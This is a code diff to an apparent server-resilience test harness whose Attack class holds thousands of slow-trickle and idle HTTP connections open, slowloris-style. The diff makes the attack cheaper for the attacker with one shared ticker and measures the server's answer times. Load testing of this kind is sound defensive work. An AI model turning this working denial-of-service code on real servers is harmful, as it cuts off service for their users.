@@ -49,14 +49,26 @@ def raise_nofile(need: int) -> tuple[int, int]:
 
 @dataclass
 class Attack:
-    """Shared state of the attackers: outcomes, open connections and a stop flag."""
+    """Shared state of the attackers: outcomes, seconds to each answer, the connections
+    trickling, and a stop flag. One ticker writes every trickle (no timer per connection, so
+    thousands of connections cost the attacking process little)."""
 
     host: str
     port: int
     reconnect_s: float
     outcomes: Counter[str] = field(default_factory=Counter)
+    answer_s: list[float] = field(default_factory=list)
+    trickling: set[asyncio.StreamWriter] = field(default_factory=set)
     open: int = 0
     stop: asyncio.Event = field(default_factory=asyncio.Event)
+
+    async def ticker(self) -> None:
+        while not self.stop.is_set():
+            for writer in list(self.trickling):
+                if not writer.is_closing():
+                    writer.write(b" ")
+            with contextlib.suppress(TimeoutError):
+                await asyncio.wait_for(self.stop.wait(), 1.0)
 
     async def _hold(self, opening: bytes, trickle: bool) -> str:
         """One connection: send `opening`, then a byte a second (`trickle`) or nothing, until
@@ -68,26 +80,33 @@ class Attack:
         except (OSError, TimeoutError):
             return "connect_failed"
         self.open += 1
+        start = time.monotonic()
+        read = stopped = None
         try:
             writer.write(opening)
             await writer.drain()
-            if not trickle:  # keep-alive: read the one answer, then sit idle
+            if trickle:
+                self.trickling.add(writer)
+            else:  # keep-alive: read the one answer, then sit idle
                 await _read_response(reader)
-            while not self.stop.is_set():
-                try:
-                    line = await asyncio.wait_for(reader.readline(), 1.0)
-                except TimeoutError:
-                    if trickle:
-                        writer.write(b" ")
-                        await writer.drain()
-                    continue
-                if not line:
-                    return "closed_by_server"
-                return f"http_{line.split()[1].decode()}" if len(line.split()) > 1 else "garbled"
-            return "held_to_end"
+            read = asyncio.ensure_future(reader.readline())
+            stopped = asyncio.ensure_future(self.stop.wait())
+            await asyncio.wait({read, stopped}, return_when=asyncio.FIRST_COMPLETED)
+            if not read.done():
+                return "held_to_end"
+            line = read.result()
+            if not line:
+                return "closed_by_server"
+            if trickle:
+                self.answer_s.append(time.monotonic() - start)
+            return f"http_{line.split()[1].decode()}" if len(line.split()) > 1 else "garbled"
         except (OSError, ValueError, IndexError):
             return "reset"
         finally:
+            for task in (read, stopped):
+                if task is not None:
+                    task.cancel()
+            self.trickling.discard(writer)
             self.open -= 1
             writer.close()
 
@@ -187,7 +206,7 @@ async def hold_attack(
     parsed = urlparse(url)
     host, port = parsed.hostname or "127.0.0.1", parsed.port or 80
     attack = Attack(host, port, reconnect_s)
-    tasks = []
+    tasks = [asyncio.create_task(attack.ticker())]
     for i in range(slow + idle):
         if i < slow:
             opening, trickle, kind = slow_body_opening(host, key), True, "slow_body"
@@ -202,7 +221,17 @@ async def hold_attack(
     opened = attack.open
     attack.stop.set()
     await asyncio.gather(*tasks)
-    print(json.dumps({"open": opened, "outcomes": dict(sorted(attack.outcomes.items()))}))
+    answers = attack.answer_s
+    print(
+        json.dumps(
+            {
+                "open": opened,
+                "outcomes": dict(sorted(attack.outcomes.items())),
+                "slow_body_answer_p50_s": round(statistics.median(answers), 2) if answers else None,
+                "slow_body_answer_p99_s": round(_pct(answers, 0.99), 2) if answers else None,
+            }
+        )
+    )
 
 
 async def run(
@@ -256,6 +285,10 @@ async def run(
         "open_when_bystanders_ended": final["open"],
         "attack_s": round(attack_s, 1),
         "outcomes": final["outcomes"],
+        "slow_body_answer_s": {
+            "p50": final["slow_body_answer_p50_s"],
+            "p99": final["slow_body_answer_p99_s"],
+        },
         "health": dict(Counter(statuses)),
         "baseline": {k: v for k, v in baseline.items() if k != "texts"},
         "attacked": {k: v for k, v in attacked.items() if k != "texts"},
